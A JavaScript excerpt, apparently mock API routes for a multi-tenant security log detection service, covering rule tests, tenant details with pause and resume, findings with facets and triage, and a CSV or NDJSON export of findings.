    [
      'POST',
      'log/rules/:rule/test',
      ([name]) => {
        ruleOf(name);
        return {
          ok: false,
          outcomes: [
            { name: 'finds one', ok: true, message: '' },
            { name: 'leaves people alone', ok: false, message: 'found a row that was not expected: {"Host":"h2"}' },
          ],
        };
      },
    ],
    [
      'GET',
      'log/tenants',
      (_, q) => {
        const page = pageOf(
          logs.tenants.filter((t) => t.includes((q.search ?? '').toLowerCase())),
          q,
        );
        return { ...page, items: page.items.map(tenantSummary) };
      },
    ],
    [
      'GET',
      'log/tenants/:tenant',
      ([name]) => ({
        summary: tenantSummary(tenantOf(name)),
        datasets: DATASETS.map((dataset) => ({
          name: dataset,
          engine: 'lake',
          table: `${name}/${dataset}`,
          domain: 'event_time',
          event_time: 'event_time',
          ingest_time: null,
          retention_millis: 90 * 86_400_000,
          columns: [{ name: 'Image', value: 'process_path' }],
          rules: logs.rules.filter((r) => r.dataset === dataset).length,
        })),
        weight: 1,
        concurrency: 4,
        bytes_per_day: 2 * 1024 ** 4,
        overrides:
          name === 'acme'
            ? [
                {
                  tenant: name,
                  rule: 'whoami-by-service',
                  disabled: false,
                  severity: 'low',
                  exceptions: ["User = 'svc_scan'"],
                  owner: 'soc@acme',
                  expires: '2027-01-31T00:00:00Z',
                  reason: 'their scanner',
                },
              ]
            : [],
        queues: queues((t) => t === name),
      }),
    ],
    [
      'POST',
      'log/tenants/:tenant/pause',
      ([name], _, body) => {
        const { streams } = tenantSummary(tenantOf(name));
        const n = Object.values(streams).reduce((a, b) => a + b, 0);
        const after =
          body.mode === 'hold'
            ? 'the time meanwhile is read when it is resumed'
            : 'the time meanwhile is left out for good, and the ledger says so';
        return acted(
          body,
          'pause',
          name,
          { streams: n, windows: 0, sentence: `${n} streams of ${name} stop running, 0 open windows wait; ${after}.` },
          () => logs.pauses.set(name, { mode: body.mode, since: iso(Date.now()), actor: 'admin', reason: body.reason }),
        );
      },
    ],
    [
      'POST',
      'log/tenants/:tenant/resume',
      ([name], _, body) => {
        const pause =
          logs.pauses.get(tenantOf(name)) ?? refuse({ status: 409, message: `tenant ${name} is not paused` });
        return acted(
          body,
          'resume',
          name,
          { streams: 40, sentence: `40 streams of ${name} run again; what came since ${pause.since} is read now.` },
          () => logs.pauses.delete(name),
        );
      },
    ],
    ['GET', 'log/findings', (_, q) => pageOf(logs.found(q), q)],
    [
      'GET',
      'log/findings/facets',
      (_, q) => {
        const without = (name) => logs.found({ ...q, [name]: undefined });
        return {
          tenant: countBy(without('tenant'), (f) => f.tenant),
          dataset: countBy(without('dataset'), (f) => f.dataset),
          rule: countBy(without('rule'), (f) => f.rule),
          severity: countBy(without('severity'), (f) => f.severity),
          state: countBy(without('state'), (f) => f.state),
          attack: countBy(without('attack'), (f) => f.attack),
          day: countBy(logs.found(q), (f) => f.instant.slice(0, 10)).sort((a, b) => (a.value < b.value ? 1 : -1)),
        };
      },
    ],
    ['GET', 'log/findings/:id', ([id]) => logs.findings.find((f) => f.id === id) ?? refuse(missing(`finding ${id}`))],
    [
      'POST',
      'log/triage',
      (_, __, body) =>
        body.findings.map((id) => {
          const f = logs.findings.find((x) => x.id === id) ?? refuse(missing(`finding ${id}`));
          if (body.state) f.state = body.state;
          if (body.assignee !== undefined && body.assignee !== null) f.assignee = body.assignee || null;
          if (body.verdict !== undefined && body.verdict !== null) f.verdict = body.verdict || null;
          if (body.comment) f.comments = [...f.comments, { at: iso(Date.now()), actor: 'admin', text: body.comment }];
          changed();
          return f;
        }),
    ],
  ];
}

/** The export of findings, as text. */
export function exported(logs, q, form) {
  const rows = logs.found(q).map((f) => ({
    _id: f.id,
    _instant: f.instant,
    _tenant: f.tenant,
    _rule: f.rule,
    _severity: f.severity,
    ...f.row,
  }));
  if (form === 'ndjson') return rows.map((r) => JSON.stringify(r) + '\n').join('');
  const columns = [...new Set(rows.flatMap((r) => Object.keys(r)))];
  const cell = (v) => `"${(typeof v === 'object' ? JSON.stringify(v) : String(v ?? '')).replaceAll('"', '""')}"`;
  return [columns.join(','), ...rows.map((r) => columns.map((c) => cell(r[c])).join(','))].join('\r\n') + '\r\n';
}
